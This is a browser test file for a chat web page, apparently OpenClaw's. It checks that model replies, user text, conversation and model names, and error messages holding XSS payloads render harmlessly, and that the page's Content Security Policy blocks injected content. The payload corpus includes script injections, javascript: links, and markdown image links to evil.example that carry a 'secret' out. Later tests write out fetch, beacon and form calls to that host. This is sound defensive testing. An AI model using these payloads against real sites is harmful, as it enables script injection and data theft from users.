import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { ChatPage } from "../testing/chat-page.ts";

let chat: ChatPage;
beforeAll(async () => {
  chat = await ChatPage.start();
});
afterAll(() => chat?.close());

/** What a model says when someone has told it to: each tries to run a script here, or to carry something away. */
const CORPUS = [
  "<script>window.ran=1</script>",
  "<img src=x onerror=window.ran=1>",
  '<svg onload="window.ran=1"><script href="data:,window.ran=1"/></svg>',
  "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
  "<style>@import 'https://evil.example/a.css'; body{background:url(https://evil.example/b)}</style>",
  '<link rel="prefetch" href="https://evil.example/c"><link rel="dns-prefetch" href="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/d">',
  '<base href="https://evil.example/"><form action="https://evil.example/e"><input autofocus onfocus=window.ran=1>',
  "<details open ontoggle=window.ran=1><video><source onerror=window.ran=1></video>",
  '<a href="javascript:window.ran=1" onmouseover="window.ran=1">click</a>',
  '<math><mtext></p><style><!--</style><img title="--><img src=x onerror=window.ran=1>">',
  "</p></div></section></textarea></title><script>window.ran=1</script>",
  "![secret](https://evil.example/f?q=secret)",
  "![secret][img]\n\n[img]: https://evil.example/g",
  "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW49MSI+)",
  "[![a](https://evil.example/h.png)](https://evil.example/i)",
  "![a](//evil.example/j) ![b](/v1/models) ![c](blob:https://evil.example/k)",
  "[click](javascript:window.ran=1) [click](JAVASCRIPT:window.ran=1) [click](java\\script:window.ran=1)",
  "[click](&#106;avascript:window.ran=1) [click](%6aavascript:window.ran=1) [click](\tjavascript:window.ran=1)",
  "[click](data:text/html,<script>window.ran=1</script>) [click](vbscript:window.ran) <javascript:window.ran=1>",
  '[click](https://evil.example/"onmouseover="window.ran=1) [a](https://evil.example "x\\" onfocus=\\"window.ran=1")',
  "[https://claw.example.com](https://evil.example) [ok](https://claw.example.com@evil.example/)",
  '```html"><script>window.ran=1</script>\n<img src=x onerror=window.ran=1>\n```',
  "| <img src=x onerror=window.ran=1> | [x](javascript:window.ran=1) |\n|-|-|\n| ![x](https://evil.example/l) | `<script>` |",
  "- > 1. # **<img src=x onerror=window.ran=1> ![x](https://evil.example/m)**",
  "{{constructor.constructor('window.ran=1')()}} #{window.ran=1} <%= window.ran=1 %>",
];

/** All that the reader of markdown can make, and the page's own. */
const ELEMENTS =
  "a article bdi blockquote br button code div em figcaption figure h2 h3 h4 h5 h6 hr li ol p path pre s section small span strong svg table tbody td th thead tr ul use";
const ATTRIBUTES =
  "aria-hidden aria-label class data-language dir hidden href id rel role start tabindex target type d viewbox";

/** What stands in the log, and what has come of it. */
const findings = () =>
  chat.page.evaluate(() => {
    const elements = [...document.querySelectorAll("#log *")];
    return {
      elements: [...new Set(elements.map((element) => element.localName))],
      attributes: [...new Set(elements.flatMap((element) => element.getAttributeNames()))],
      addresses: elements.filter((element) => element instanceof HTMLAnchorElement).map((link) => link.href),
      unguarded: document.querySelectorAll("#log a:not([rel~=noopener][rel~=noreferrer][target=_blank])")
        .length,
      ran: "ran" in window,
    };
  });

async function expectNoHarm(): Promise<void> {
  const { elements, attributes, addresses, unguarded, ran } = await findings();
  expect(ran).toBe(false);
  expect(elements.filter((name) => !ELEMENTS.split(" ").includes(name))).toEqual([]);
  expect(attributes.filter((name) => !ATTRIBUTES.split(" ").includes(name))).toEqual([]);
  for (const address of addresses) expect(address).toMatch(/^(https?:\/\/|mailto:)/);
  expect(unguarded).toBe(0);
  expect(chat.strayed).toEqual([]);
  expect(chat.complaints).toEqual([]);
}

describe("on the chat page, what a model writes", () => {
  beforeAll(() => chat.open());

  it.each(CORPUS)("does nothing: %s", async (text) => {
    await chat.button("New conversation").click();
    await chat.converse("hi", ...(text.match(/[\s\S]{1,7}/g) ?? []), "\n\nend");
    await chat.shown("end");
    await expectNoHarm();
  });

  it("does nothing all together, with every link and button under the pointer", async () => {
    await chat.button("New conversation").click();
    await chat.converse("hi", CORPUS.join("\n\n"));
    await chat.page.reload(); // as it is read again from what the browser keeps
    for (const target of await chat.page.locator("#log a, #log button:visible, #log pre").all())
      await target.hover();
    await expectNoHarm();
    await chat.picture("injection");
  });

  it("shows where a link leads, beside what it says", async () => {
    await chat.button("New conversation").click();
    await chat.converse(
      "hi",
      "[https://claw.example.com](https://evil.example/x) ![cat](https://evil.example/c.png)",
    );
    const links = await chat.page.locator("#log a").allTextContents();
    expect(links).toEqual(["https://claw.example.com evil.example", "Image: cat evil.example"]);
  });
});

describe("on the chat page, what is not the page's own text", () => {
  beforeEach(() => chat.open());
  const text = '"><img src=x onerror=window.ran=1><script>window.ran=1</script>';

  it("does nothing in a question, the conversation's name and its dialogs", async () => {
    await chat.converse(text, "ok");
    expect(await chat.page.locator("article.user .body").textContent()).toBe(text);
    await chat.page.locator("#conversations .rename").click();
    await chat.page.keyboard.press("Escape");
    await chat.page.locator("#conversations .delete").click();
    await chat.page.keyboard.press("Escape");
    expect(await chat.page.title()).toContain(text.slice(0, 20));
    expect(await chat.page.locator("img, #conversations script, header script").count()).toBe(0);
    await expectNoHarm();
  });

  it("does nothing in a refusal, nor in the names of models", async () => {
    chat.models = ["openclaw/default", "openclaw/main", `openclaw/${text}`];
    await chat.open();
    await chat.refuse(418, { code: text, message: text }, { "x-request-id": text });
    await chat.draft.fill("hi");
    await chat.button("Send").click();
    await chat.page.getByRole("alert").getByText(text).waitFor();
    expect(await chat.page.locator("img, #talk script").count()).toBe(0);
    expect(await chat.page.evaluate(() => "ran" in window)).toBe(false);
  });
});

/** If the reader of markdown had a hole, the browser itself would still stand before it. */
describe("the chat page's policy", () => {
  beforeEach(() => chat.open());

  it.each([
    ["a picture from elsewhere", "new Image().src = 'https://evil.example/a'"],
    ["a picture from here", "new Image().src = '/api/users/x/avatar'"],
    ["a request elsewhere", "void fetch('https://evil.example/b', { mode: 'no-cors' }).catch(() => 0)"],
    ["a beacon", "navigator.sendBeacon('https://evil.example/c')"],
    ["OpenClaw's scripts", "void import('/assets/index.js').catch(() => 0)"],
    ["a script in the page", "add('script', 'text', 'window.ran = 1')"],
    ["a script from text", "setTimeout('window.ran = 1')"],
    ["a style in the page", "add('style', 'textContent', '* { color: red }')"],
    ["a frame", "add('iframe', 'src', 'https://evil.example/d')"],
    ["a form that leaves", "add('form', 'action', 'https://evil.example/e').submit()"],
    ["another base", "add('base', 'href', 'https://evil.example/')"],
    ["HTML from text", "add('p', 'innerHTML', '<b>x')"],
  ])("refuses %s", async (_name, attempt) => {
    await chat.page.evaluate(`{
      const add = (name, key, value) => {
        const made = document.createElement(name);
        try { made[key] = value; } catch {}
        document.body.append(made);
        return made;
      };
      try { ${attempt}; } catch {}
    }`);
    const complaints = () => chat.complaints.join("\n");
    await expect.poll(complaints, { timeout: 20_000 }).toMatch(/Content Security Policy|requires 'Trusted/);
    expect(await chat.page.evaluate("'ran' in window || document.baseURI.includes('evil')")).toBe(false);
  });

  it("holds for the page itself, which asks this origin only", async () => {
    await chat.converse("hi", "**yes**");
    const origins = await chat.page.evaluate(() =>
      performance.getEntriesByType("resource").map(({ name }) => new URL(name).origin),
    );
    expect(new Set(origins)).toEqual(new Set([new URL(chat.page.url()).origin]));
    expect(chat.complaints).toEqual([]);
  });

  it("knows no name of a link before it is clicked", async () => {
    const answer = await chat.gateway.fetch("/chat.html");
    expect(answer.headers.get("x-dns-prefetch-control")).toBe("off");
  });
});
